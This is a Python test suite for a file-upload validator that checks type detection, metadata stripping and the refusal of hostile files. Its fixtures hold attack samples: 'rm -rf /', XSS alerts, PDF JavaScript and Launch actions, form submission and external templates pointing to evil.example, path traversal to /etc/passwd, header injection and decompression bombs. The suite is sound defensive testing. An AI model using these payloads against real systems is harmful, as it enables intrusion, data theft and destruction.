"""What may be uploaded: told by content, whole, and without hidden data."""

import struct
import time
import wave
import zlib
from io import BytesIO
from zipfile import ZipFile

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageSequence
from python_calamine import load_workbook

from bihuan.attachments import rules
from bihuan.attachments.rules import admit, names
from bihuan.attachments.rules.media import DEEPEST
from bihuan.attachments.rules.pictures import LONGEST_SIDE, MOST_FRAMES
from bihuan.attachments.types import ENDINGS, Admitted, FileKind, Held
from bihuan.kernel.refusal import Refusal
from bihuan.policy import norms

from .conftest import (
    SAMPLES,
    SECRET,
    archive,
    blank,
    box,
    docx,
    flicker,
    moving,
    mp3,
    mp4,
    pdf,
    picture,
    related,
    wav,
)

MB = 1024 * 1024
PICTURES = [FileKind.JPEG, FileKind.PNG, FileKind.WEBP, FileKind.GIF]
HIDES = [*PICTURES, FileKind.MP3, FileKind.WAV, FileKind.M4A, FileKind.MP4]


def admitted(content: bytes, kind: FileKind) -> Admitted:
    answer = admit(name=f"现场.{ENDINGS[kind][0]}", content=content, limit=20 * MB)
    assert isinstance(answer, Admitted), answer
    assert answer.kind is kind
    return answer


def refused(content: bytes, name: str) -> str:
    answer = admit(name=name, content=content, limit=MB)
    assert isinstance(answer, Refusal)
    assert answer.norm == norms.ATTACHMENT_CHECKED
    assert answer.field == "attachments"
    return answer.reason


@pytest.mark.parametrize("kind", FileKind)
def test_every_kind_is_known_by_its_content(kind: FileKind) -> None:
    assert admitted(SAMPLES[kind], kind).content


@pytest.mark.parametrize("kind", FileKind)
@pytest.mark.parametrize("other", FileKind)
def test_a_name_that_says_another_kind_is_refused(kind: FileKind, other: FileKind) -> None:
    if kind is not other:
        assert "不符" in refused(SAMPLES[kind], f"a.{ENDINGS[other][0]}")


@pytest.mark.parametrize("kind", HIDES)
def test_what_a_file_hides_is_gone(kind: FileKind) -> None:
    assert SECRET in SAMPLES[kind]
    assert SECRET not in admitted(SAMPLES[kind], kind).content


@pytest.mark.parametrize("kind", PICTURES)
def test_a_picture_keeps_no_place_and_no_camera(kind: FileKind) -> None:
    with Image.open(BytesIO(admitted(SAMPLES[kind], kind).content)) as seen:
        seen.load()
        assert dict(seen.getexif()) == {}
        assert not {"exif", "xmp", "comment", "Location", "icc_profile"} & set(seen.info)
        assert seen.size == (64, 32)


@pytest.mark.parametrize("kind", [FileKind.JPEG, FileKind.PNG, FileKind.WEBP])
def test_a_picture_taken_sideways_stands_upright_afterwards(kind: FileKind) -> None:
    content = admitted(picture(kind, orientation=6), kind).content
    with Image.open(BytesIO(content)) as seen:
        assert seen.size == (32, 64)
        top, bottom = (seen.convert("RGB").getpixel((16, y)) for y in (8, 56))
    assert isinstance(top, tuple)
    assert isinstance(bottom, tuple)
    assert top[0] > 200 > 90 > top[1]
    assert min(bottom) > 200


@pytest.mark.parametrize("kind", [FileKind.GIF, FileKind.WEBP, FileKind.PNG])
def test_a_moving_picture_still_moves(kind: FileKind) -> None:
    with Image.open(BytesIO(admitted(moving(kind), kind).content)) as seen:
        shots = [
            (frame.convert("RGB").getpixel((8, 8)), frame.info["duration"]) for frame in ImageSequence.Iterator(seen)
        ]
    assert [round(length) for _, length in shots] == [120, 240, 360]
    assert [round(colour[0] / 60) for colour, _ in shots if isinstance(colour, tuple)] == [0, 1, 2]


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "I;16"])
def test_a_png_of_any_mode_looks_as_before(mode: str) -> None:
    drawn = Image.new(mode, (10, 10))
    out = BytesIO()
    drawn.save(out, format="PNG")
    with Image.open(BytesIO(admitted(out.getvalue(), FileKind.PNG).content)) as seen:
        assert seen.mode == mode
        assert seen.tobytes() == drawn.tobytes()


def test_a_printers_jpeg_becomes_one_for_screens() -> None:
    out = BytesIO()
    Image.new("CMYK", (10, 10)).save(out, format="JPEG")
    with Image.open(BytesIO(admitted(out.getvalue(), FileKind.JPEG).content)) as seen:
        assert seen.mode == "RGB"


# An MP3 that is cut off is a shorter MP3.
@pytest.mark.parametrize("kind", [kind for kind in FileKind if kind is not FileKind.MP3])
@pytest.mark.parametrize("share", [0.3, 0.6, 0.9])
def test_a_file_that_is_cut_off_is_refused(kind: FileKind, share: float) -> None:
    content = SAMPLES[kind]
    if kind in PICTURES:
        content = picture(kind, size=(400, 400))
    assert refused(content[: int(len(content) * share)], f"a.{ENDINGS[kind][0]}")


def test_an_mp3_that_has_no_sound_is_refused() -> None:
    assert "损坏" in refused(mp3()[:200], "a.mp3")
    assert "损坏" in refused(b"ID3" + b"<script>" * 30, "a.mp3")


@pytest.mark.parametrize("kind", [FileKind.PDF, FileKind.MP4, FileKind.M4A, FileKind.MP3])
def test_a_file_that_is_an_archive_too_is_refused(kind: FileKind) -> None:
    both = SAMPLES[kind] + archive({"evil.exe": b"MZ"})
    assert refused(both, f"a.{ENDINGS[kind][0]}")


@pytest.mark.parametrize("kind", [*PICTURES, FileKind.WAV])
def test_what_hangs_on_to_a_picture_or_recording_is_left_behind(kind: FileKind) -> None:
    answer = admit(name=f"a.{ENDINGS[kind][0]}", content=SAMPLES[kind] + archive({"evil.exe": b"MZ"}), limit=MB)
    assert isinstance(answer, Refusal) or (b"evil.exe" not in answer.content and b"PK\x05\x06" not in answer.content)


def test_an_archive_behind_a_picture_is_a_picture_and_not_a_document() -> None:
    assert "不符" in refused(SAMPLES[FileKind.JPEG] + docx(), "a.docx")


@pytest.mark.parametrize(
    "content",
    [
        b"<html><script>alert(1)</script></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"MZ\x90\x00" + bytes(100),
        b"#!/bin/sh\nrm -rf /",
        b"PK\x03\x04" + bytes(100),
        archive({"a.txt": b"x"}),
        archive({"[Content_Types].xml": b"", "ppt/presentation.xml": b""}),
        b"\x7fELF" + bytes(100),
        b"GIF8",
        b"RIFF\x00\x00\x00\x00AVI ",
        b"\x00" * 64,
        b"\xff",
    ],
)
@pytest.mark.parametrize("name", ["a.jpg", "a.pdf", "a.docx", "a.mp3", "a"])
def test_everything_else_is_refused_under_any_name(content: bytes, name: str) -> None:
    assert "可以上传" in refused(content, name)


def test_the_refusal_says_what_to_do_with_old_office_files_and_phone_photos() -> None:
    assert "另存为 docx" in refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "a.doc")
    assert "HEIC" in refused(b"\x00\x00\x00\x18ftypheic" + bytes(100), "a.jpg")


def test_empty_large_and_nameless_files_are_refused() -> None:
    assert "空文件" in refused(b"", "a.jpg")
    assert "不超过 1 MB" in refused(bytes(MB + 1), "a.jpg")
    assert "扩展名“无”" in refused(SAMPLES[FileKind.PDF], "pdf")


def bomb_png(width: int, height: int) -> bytes:
    """A small PNG that says that it is huge."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("size", [(8_000, 8_000), (12_000, 12_000), (60_000, 60_000), (2**31 - 1, 2**31 - 1)])
def test_a_picture_that_would_fill_the_memory_is_refused_before_it_is_drawn(size: tuple[int, int]) -> None:
    assert "太大" in refused(bomb_png(*size), "a.png")


def test_a_moving_picture_has_so_many_frames_and_no_more_are_counted() -> None:
    assert admitted(flicker(MOST_FRAMES), FileKind.GIF)
    assert "帧" in refused(flicker(MOST_FRAMES + 1), "a.gif")
    begun = time.thread_time()
    assert "帧" in refused(flicker(60_000), "a.gif")  # 900 KB that took 51 seconds
    assert time.thread_time() - begun < 0.5


def test_the_pixels_of_all_frames_are_bound() -> None:
    assert "总像素" in refused(flicker(MOST_FRAMES, side=501), "a.gif")


@pytest.mark.parametrize("kind", [FileKind.PNG, FileKind.JPEG])
def test_a_side_is_bound(kind: FileKind) -> None:
    assert admitted(blank(kind, LONGEST_SIDE, 1, "L"), kind)
    assert "每边" in refused(blank(kind, LONGEST_SIDE + 1, 1, "L"), f"a.{ENDINGS[kind][0]}")


def test_an_office_file_that_would_unpack_without_end_is_refused() -> None:
    assert "过大" in refused(docx(word__huge=bytes(60 * MB)), "a.docx")
    assert "过大" in refused(archive({f"p{n}": b"" for n in range(5_001)} | parts()), "a.docx")


def parts() -> dict[str, bytes]:
    return {"[Content_Types].xml": b"", "word/document.xml": b""}


def test_an_office_file_with_macros_a_password_or_a_way_out_is_refused() -> None:
    assert "宏" in refused(docx(**{"word__vbaProject.bin": b"x"}), "a.docx")
    assert "结构异常" in refused(archive(parts() | {"../../etc/passwd": b"x"}), "a.docx")
    locked = docx().replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")
    assert "密码" in refused(locked, "a.docx")


OFFICE = "application/vnd.openxmlformats-officedocument"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (related(("vbaProject", "media/a.png", "")), "宏"),
        (related(types='<Override PartName="/word/a.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'), "宏"),
        (related(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "宏"),
        (related(types='<Default Extension="x" ContentType="application/vnd.ms-office.vbaProject"/>'), "宏"),
        (related(("oleObject", "embeddings/a.bin", "")), "嵌有"),
        (related(("package", "embeddings/a.xlsx", "")), "嵌有"),
        (related(("control", "activeX/a.xml", "")), "嵌有"),
        (related(types=f'<Default Extension="b" ContentType="{OFFICE}.oleObject"/>'), "嵌有"),
        (related(("attachedTemplate", "https://evil.example/a.dotm", "External")), "外部模板"),
        (related(("image", "https://evil.example/a.png", "External")), "外部的图片"),
        (related(("hyperlink", "file://evil/share", "External")), "外部的图片"),
        (related(("hyperlink", "\\\\evil\\share", "External")), "外部的图片"),
        (related(("hyperlink", "javascript:alert(1)", "external")), "外部的图片"),
        (related(word__media__a=archive({"x": b"x"})), "压缩包"),
        (related(word__media__a=b"MZ" + bytes(60)), "程序"),
        (related(word__media__a=OLE), "OLE"),
        (docx(**{"word__b.rels": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), "结构异常"),
        (docx(**{"word__b.rels": b"<a"}), "结构异常"),
    ],
)  # fmt: skip
def test_an_office_file_that_acts_carries_others_or_leads_elsewhere_is_refused(content: bytes, reason: str) -> None:
    assert reason in refused(content, "a.docx")


def test_an_office_file_keeps_its_text_pictures_and_links_and_loses_author_and_company() -> None:
    picture = SAMPLES[FileKind.PNG].replace(SECRET, b"")
    content = related(
        ("hyperlink", "https://www.gov.cn/", "External"), ("image", "media/a.png", ""), word__media__a=picture
    )
    assert SECRET in ZipFile(BytesIO(content)).read("docProps/core.xml")
    kept = ZipFile(BytesIO(admitted(content, FileKind.DOCX).content))
    assert kept.testzip() is None
    assert SECRET not in b"".join(kept.read(name) for name in kept.namelist())
    assert kept.namelist() == ZipFile(BytesIO(content)).namelist()
    assert kept.read("word/media/a") == picture
    assert "答复" in kept.read("word/document.xml").decode()


def test_files_as_office_writes_them_can_still_be_opened() -> None:
    paper, out = Document(), BytesIO()
    paper.add_paragraph("答复")
    paper.core_properties.author = "张某某"
    paper.save(out)
    kept = Document(BytesIO(admitted(out.getvalue(), FileKind.DOCX).content))
    assert (kept.paragraphs[0].text, kept.core_properties.author) == ("答复", "")
    sheet = load_workbook(BytesIO(admitted(SAMPLES[FileKind.XLSX], FileKind.XLSX).content))
    assert next(iter(sheet.get_sheet_by_index(0).to_python())) == ["编号", "答复"]


def packed(content: bytes, more: bytes = b"/Filter /FlateDecode") -> bytes:
    body = zlib.compress(content)
    return b"<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\n%s\nendstream" % (more, len(body), body)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"), "脚本"),
        (pdf(b"<< /S /J#61vaScript /JS (x) >>"), "脚本"),
        (pdf(b"<< /AA << /O << /S /Launch /F (cmd.exe) >> >> >>"), "动作"),
        (pdf(b"<< /A << /S /SubmitForm /F (http://evil.example) >> >>"), "动作"),
        (pdf(b"<< /A << /S /GoToR /F (//evil/share) >> >>"), "动作"),
        (pdf(b"<< /Type /EmbeddedFile >>"), "夹带"),
        (pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"), "夹带"),
        (pdf(packed(b"1 0 << /S /JavaScript /JS (x) >>")), "脚本"),
        (pdf(packed(b"1 0 << /S /Java#53cript /JS (x) >>", b"/Filter [ /FlateDecode ]")), "脚本"),
        (pdf(packed(b"1 0 << >>", b"/Filter /LZWDecode")), "结构异常"),
        (pdf(packed(bytes(70 * MB))), "结构异常"),
        (pdf(b"<< >>").replace(b"trailer<<>>", b"trailer<< /Encrypt 9 0 R >>"), "密码"),
    ],
)
def test_a_pdf_that_acts_or_carries_others_is_refused(content: bytes, reason: str) -> None:
    assert reason in refused(content, "a.pdf")


def test_a_pdf_that_opens_at_a_page_and_links_to_the_web_is_taken() -> None:
    content = pdf(
        b"<< /OpenAction [3 0 R /Fit] >>", b"<< /A << /S /URI /URI (https://www.gov.cn/) >> >>", packed(b"1 0 << >>")
    )
    assert admitted(content, FileKind.PDF).content == content


def test_blanking_a_film_moves_nothing_in_it() -> None:
    film = mp4()
    cleaned = admitted(film, FileKind.MP4).content
    assert len(cleaned) == len(film)
    (offset,) = struct.unpack_from(">I", cleaned, cleaned.index(b"stco") + 12)
    assert cleaned[offset:].startswith(b"FRAMES")
    assert cleaned.count(b"free") == 3


def test_boxes_within_boxes_have_an_end() -> None:
    def nested(depth: int) -> bytes:
        inner = b""
        for _ in range(depth):
            inner = box(b"moov", inner)
        return mp4() + inner

    assert "嵌套过深" in refused(nested(3_000), "a.mp4")
    assert "嵌套过深" in refused(nested(DEEPEST + 2), "a.mp4")
    assert admitted(nested(DEEPEST), FileKind.MP4)


def test_a_recording_sounds_as_before() -> None:
    with wave.open(BytesIO(wav())) as before, wave.open(BytesIO(admitted(wav(), FileKind.WAV).content)) as after:
        assert before.getparams() == after.getparams()
        assert before.readframes(9999) == after.readframes(9999)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(list(FileKind)), st.data())
def test_no_damage_to_a_file_raises(kind: FileKind, damage: st.DataObject) -> None:
    content = bytearray(SAMPLES[kind])
    for _ in range(damage.draw(st.integers(1, 6))):
        content[damage.draw(st.integers(0, len(content) - 1))] = damage.draw(st.integers(0, 255))
    cut = damage.draw(st.integers(0, len(content)))
    answer = admit(name=f"a.{ENDINGS[kind][0]}", content=bytes(content[:cut]), limit=MB)
    assert isinstance(answer, Admitted | Refusal)


@settings(max_examples=300)
@given(
    st.sampled_from(
        [b"", b"ID3", b"RIFF\0\0\0\0WAVE", b"\0\0\0\x10ftypisom\0\0\0\0", b"%PDF-", b"PK\x03\x04", b"\xff\xfb"]
    )
)
def test_no_rubbish_behind_a_right_beginning_raises(start: bytes) -> None:
    for ending in ("mp3", "wav", "mp4", "pdf", "docx"):
        answer = admit(name=f"a.{ending}", content=start + bytes(40) + b"PK\x05\x06", limit=MB)
        assert isinstance(answer, Refusal)


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("现场照片.JPG", "现场照片.jpg"),
        ("..\\..\\windows\\system32\\a.exe.jpg", "a.exe.jpg"),
        ("../../etc/passwd", "passwd"),
        ("报告\u202egpj.pdf", "报告gpj.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
        (".jpg", "附件.jpg"),
        ("", "附件"),
        ("  a  b .pdf ", "a b.pdf"),
        ("长" * 300 + ".docx", "长" * 109 + ".docx"),
    ],
)
def test_names_are_made_safe(name: str, clean: str) -> None:
    assert names.cleaned(name) == clean


@given(st.text(st.characters(exclude_categories=())))
def test_any_name_becomes_a_safe_one_that_stays(name: str) -> None:
    clean = names.cleaned(name)
    assert 0 < len(clean) <= names.LONGEST
    assert not set('\\/:*?"<>|\r\n\t\0') & set(clean)
    assert not clean.startswith(".")
    assert clean.encode()
    assert names.cleaned(clean) == clean


@pytest.mark.parametrize(
    ("answer", "refused"),
    [
        (rules.may_upload(name="a.jpg", size=0, limit=MB), True),
        (rules.may_upload(name="a.jpg", size=1, limit=MB), False),
        (rules.may_upload(name="a.jpg", size=MB, limit=MB), False),
        (rules.may_upload(name="a.jpg", size=MB + 1, limit=MB), True),
        (rules.may_lay_down(free=9, least=10), True),
        (rules.may_lay_down(free=10, least=10), False),
        (rules.may_add(held=Held(5, 0), size=1), False),
        (rules.may_add(held=Held(6, 0), size=1), True),
        (rules.may_add(held=Held(5, 59 * MB), size=MB), False),
        (rules.may_add(held=Held(5, 59 * MB), size=MB + 1), True),
    ],
)
def test_each_bound_is_where_it_is(answer: Refusal | None, refused: bool) -> None:
    assert (answer is not None) is refused
    assert answer is None or (answer.norm, answer.field) == (norms.ATTACHMENT_CHECKED, "attachments")
